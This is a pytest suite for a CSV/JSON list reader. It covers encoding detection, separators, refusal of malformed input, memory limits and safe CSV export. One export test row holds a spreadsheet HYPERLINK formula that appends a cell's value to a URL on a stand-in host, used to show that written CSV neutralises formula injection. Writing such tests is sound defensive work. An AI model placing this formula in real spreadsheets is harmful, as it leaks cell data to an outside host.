"""Text lists from outside: any encoding, any separator, nothing lost, each refusal with a sentence."""

from __future__ import annotations

import itertools
import json
import tracemalloc

import pytest

from iris.gateways.sheets import Limits, read_table, write_csv
from iris.gateways.sheets_encoding import NAMES
from iris.rules.errors import RuleBroken
from iris.rules.lists import Form, find_header, propose_columns


def cells(table):
    return [line.cells for line in table.lines()]


def read(text, encoding="utf-8", **told):
    return read_table(text.encode(encoding), "list.csv", **told)


def refusal(data, **told):
    with pytest.raises(RuleBroken) as refused:
        read_table(data, "list.csv", **told)
    sentence = str(refused.value)
    assert sentence.endswith(".")
    assert "%(" not in sentence
    return refused.value.code


WESTERN = "name,licence_no,status\nSeñor Personal S.A.,ES-1,Active\nMüller & Søn ApS,DK-2,Active\n"


def test_windows_letters_come_out_right_and_the_encoding_is_said():
    table = read(WESTERN, "cp1252")
    assert cells(table)[1:] == [("Señor Personal S.A.", "ES-1", "Active"), ("Müller & Søn ApS", "DK-2", "Active")]
    assert table.encoding == "Windows-1252"


@pytest.mark.parametrize(
    ("encoding", "text"),
    [
        ("utf-8", "নাম,লাইসেন্স নং\nঅর্কিড ইন্টারন্যাশনাল,০০১০\n"),
        ("utf-16", "name,no\nMüller,1\n"),
        ("utf-16-le", "name,licence\nMüller & Co,1\n"),
        ("utf-16-be", "name,licence\nMüller & Co,1\n"),
        ("utf-32", "name,no\nMüller,1\n"),
        ("cp1250", "název,stav\nPříkladná agentura práce,platná\nŘemeslo Čech,platná\n"),
        ("cp1250", "nazwa,nr\nUsługi Kadrowe Żółw Łódź,1\n"),
        ("cp1251", "название,статус\nАгентство Труд ООО,действует\n"),
        ("cp1253", "όνομα,αριθμός\nΓραφείο Ευρέσεως Εργασίας,12\n"),
        ("cp1254", "firma adı,durum\nİş Dünyası Danışmanlık Şirketi,geçerli\n"),
        ("cp1256", "اسم المكتب,الحالة\nمكتب النور للاستقدام,ساري\n"),
        ("cp1257", "pavadinimas,nr\nĮdarbinimo agentūra Žalgiris UAB,1\n"),
        ("cp874", "ชื่อบริษัท,เลขที่\nบริษัท จัดหางาน ไทย จำกัด,12\n"),
        ("big5", "公司名稱,牌照號碼\n期柏有限公司,12\n思賢人力資源有限公司,13\n"),
        ("gb18030", "公司名称,许可证号\n上海人力资源有限公司,12\n"),
        ("cp932", "会社名,許可番号\n株式会社テスト人材,12\n"),
        ("cp949", "회사명,등록번호\n주식회사 한국인력,12\n서울 인재개발,13\n"),
        ("euc_jp", "会社名,許可番号\n株式会社テスト人材,12\nサクラ事業協同組合,13\n"),
        ("iso8859_15", "nom,no\nŒuvre à cœur €,1\n"),
        ("cp850", "nombre,no\nSeñor Compañía Número,1\nGestión Añil,2\n"),
        ("mac_roman", "name,no\nSeñor Compañía Número São,1\n"),
        ("koi8_u", "название,статус\nАгентство Труд ООО,действует\n"),
        ("cp1252", "name,no\nAL–Basher Overseas,1\nO’Neill “Quality”,2\n"),
    ],
)
def test_no_letter_is_lost_in_any_usual_encoding(encoding, text):
    table = read(text, encoding)
    assert cells(table) == [tuple(line.split(",")) for line in text.splitlines()]
    assert table.encoding


def test_a_guess_is_said_to_be_one_and_can_be_overruled():
    table = read("ad\nŞirket\n", "cp1254")
    assert not table.encoding_sure
    chosen = read_table("ad\nŞirket\n".encode("cp1254"), "list.csv", encoding="cp1254")
    assert (chosen.encoding_sure, cells(chosen)[1]) == (True, ("Şirket",))
    assert refusal("é,x\n".encode("cp1252"), encoding="utf-8") == "encoding_wrong"
    assert refusal(b"a,b\n", encoding="klingon") == "encoding_unknown_name"


def test_a_mark_before_the_first_column_is_no_part_of_its_name():
    table = read_table("\ufefflicence_no,name,status\n0010,Orchard International,Active\n".encode(), "list.csv")
    header = find_header(table)
    assert header.names == ("licence_no", "name", "status")
    assert propose_columns(header.names, []).columns["licence_number"] == ("licence_no",)


def test_utf8_with_one_foreign_letter_is_refused_naming_the_line():
    data = "name\nMüller\nSøn\nŁódź\nÇelik\n".encode() + "Señor\n".encode("cp1252")
    with pytest.raises(RuleBroken) as refused:
        read_table(data, "list.csv")
    assert refused.value.code == "encoding_mixed"
    assert "line 6" in str(refused.value)


@pytest.mark.parametrize("separator", [",", ";", "\t", "|"])
def test_any_separator(separator):
    rows = [("name", "address", "no"), ("A, B & Co", "1, Main; Road", "0010"), ("C", "", "0020")]
    text = "\n".join(separator.join(f'"{cell}"' for cell in row) for row in rows)
    table = read(text)
    assert table.separator == separator
    assert cells(table) == rows


def test_a_separator_named_in_the_first_line_is_taken():
    table = read("sep=;\nname;no\nA, Inc;1,5\n")
    assert [(line.number, line.cells) for line in table.lines()] == [(2, ("name", "no")), (3, ("A, Inc", "1,5"))]


def test_one_column_needs_no_separator():
    assert cells(read("name\nAlpha e Beta\nGamma\n")) == [("name",), ("Alpha e Beta",), ("Gamma",)]


def test_tabs_of_records_on_three_lines_are_found_among_commas():
    record = "{0}.\tAGENCY {0}\t\n17{0}\nNO.{0}, MAIN ROAD, KANDY\t011{0},077{0}\t***\t30-September-2026\t\n"
    text = " \tAgency\t\nL.No\nAddress\tTelephone\tFax\tValid Up to\t \n"
    table = read(text + "".join(record.format(number) for number in range(1, 9)))
    assert table.separator == "\t"
    assert find_header(table).span == 3


def test_cells_with_several_lines_stay_and_rows_count_as_a_spreadsheet_shows_them():
    table = read('name,address\r\n"Alpha","1 Road\r\nDhaka"\r\n\r\nBeta,x\r\n')
    assert [(line.number, line.cells) for line in table.lines()] == [
        (1, ("name", "address")),
        (2, ("Alpha", "1 Road\r\nDhaka")),
        (3, ()),
        (4, ("Beta", "x")),
    ]


def test_leading_zeros_stay():
    assert cells(read("rlno,name\n0010,Orchard\n"))[1] == ("0010", "Orchard")


def test_a_table_can_be_gone_through_twice_at_once():
    table = read("a,b\n1,2\n3,4\n")
    pairs = list(zip(table.lines(), table.lines(), strict=True))
    assert all(one == two for one, two in pairs)
    assert len(pairs) == 3


@pytest.mark.parametrize(
    ("data", "code"),
    [
        (b"", "empty_file"),
        (b" \r\n\t\r\n,,,\r\n", "no_rows"),
        (b"name,no\nAl\0pha,1\n", "nul_bytes"),
        (bytes(range(1, 32)) * 40 + b"\xff" * 200, "binary"),
        (b'name,no\n"Alpha,1\nBeta,2\n', "quote_open"),
        (b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", "unknown_type"),
        (b"\x89PNG\r\n\x1a\n\0\0\0", "unknown_type"),
        (b"\x1f\x8b\x08\0\0\0\0\0\0\x03", "unknown_type"),
        (b"<html><table><tr><td>Name</td></tr></table></html>", "unknown_type"),
        ("\ufeffname,no\nM\u00fc".encode("utf-16")[:-1], "file_cut"),
        (",".join(map(str, range(300))).encode(), "too_many_columns"),
        (b'name\n"' + b"x" * 300_000 + b'"\n', "cell_too_long"),
    ],
)
def test_what_cannot_be_read_is_refused_with_one_sentence(data, code):
    assert refusal(data) == code


def test_a_file_over_its_limit_is_refused():
    assert refusal(b"a,b\n" * 400_000, limits=Limits(text_bytes=1 << 20)) == "too_large"


def test_blank_cells_at_the_end_do_not_count_as_columns():
    assert cells(read("name,no" + "," * 300 + "\nAlpha,1" + "," * 300 + "\n"))[0][:2] == ("name", "no")


def test_a_large_file_is_never_held_whole(tmp_path):
    path = tmp_path / "large.csv"
    line = "0010,Agency of some length Ltd,12 Long Road in Dhaka,active\n"
    with path.open("w", encoding="utf-8") as file:
        file.write("no,name,address,status\n")
        for _ in range(4):
            file.write(line * 10_000)
    tracemalloc.start()
    table = read_table(path, "large.csv")
    count = sum(1 for _ in table.lines())
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert count == 40_001
    assert peak < 1 << 20


def test_an_open_quote_in_a_large_file_is_found(tmp_path):
    path = tmp_path / "large.csv"
    path.write_text("no,name\n" + "1,Alpha\n" * 100_000 + '2,"Beta\n', encoding="utf-8")
    with pytest.raises(RuleBroken) as refused:
        read_table(path, "large.csv", limits=Limits(checked_at_once=1000))
    assert refused.value.code == "quote_open"
    assert "100002" in str(refused.value)


RECORDS = [
    {"name": "ALPHA", "no": "0010", "valid": True, "since": None, "count": 10, "office": {"city": "Manila"}},
    {"name": "BETA", "emails": ["a@x.example", "b@x.example"], "rate": 10.0},
]


def test_json_as_a_list_of_objects():
    table = read_table(json.dumps(RECORDS).encode(), "list.json")
    assert table.form is Form.JSON
    assert table.keys == ("name", "no", "valid", "since", "count", "office.city", "emails", "rate")
    assert cells(table)[0] == ("ALPHA", "0010", "true", "", "10", "Manila", "", "")
    assert cells(table)[1] == ("BETA", "", "", "", "", "", "a@x.example, b@x.example", "10.0")
    assert table.partial_of is None


def test_json_that_states_more_rows_than_it_holds_is_a_part():
    whole = {"meta": {"total": 3790, "perPage": 50}, "data": RECORDS}
    assert read_table(json.dumps(whole).encode(), "page.json").partial_of == 3790
    assert read_table(json.dumps({"total": 2, "rows": RECORDS}).encode(), "x.json").partial_of is None


def test_json_with_one_object_on_each_line():
    data = "\n".join(json.dumps(record) for record in RECORDS).encode()
    assert len(cells(read_table(data, "list.jsonl"))) == 2


@pytest.mark.parametrize(
    ("data", "code"),
    [
        (b'[{"name": "ALPHA"}, {"na', "json_unreadable"),
        (b'{"name": "ALPHA"}', "json_no_list"),
        (b'{"data": []}', "json_no_list"),
        (b"[]", "no_rows"),
        (b'{"one": [{"a": 1}], "two": [{"a": 1}]}', "json_several_lists"),
        (b"[" * 100_000, "json_unreadable"),
    ],
)
def test_json_that_holds_no_single_list_is_refused(data, code):
    assert refusal(data) == code


ROWS = [
    ('=HYPERLINK("http://x.example/?"&A1)', "0010", ""),
    ("@ Home Accommodation Services Ltd", "-1", 'a;b,c\nd"e'),
    ("'=quoted", "+977", "\u200b=1"),
    ("\u00a0=1+1", "'s-Hertogenbosch", "Orchard – Dhaka"),
]


def test_written_csv_runs_nothing_and_comes_back_unchanged():
    data = b"".join(write_csv(iter(ROWS), ["name", "=no", "note"]))
    table = read_table(data, "export.csv")
    assert cells(table) == [("name", "=no", "note"), *ROWS]
    for cell in itertools.chain.from_iterable(line.split(",") for line in data.decode("utf-8-sig").splitlines()):
        assert cell.strip('" \u00a0\u200b')[:1] not in {"=", "+", "-", "@"}


def test_encodings_are_said_by_the_names_people_know():
    assert NAMES["cp932"] == "Shift-JIS"
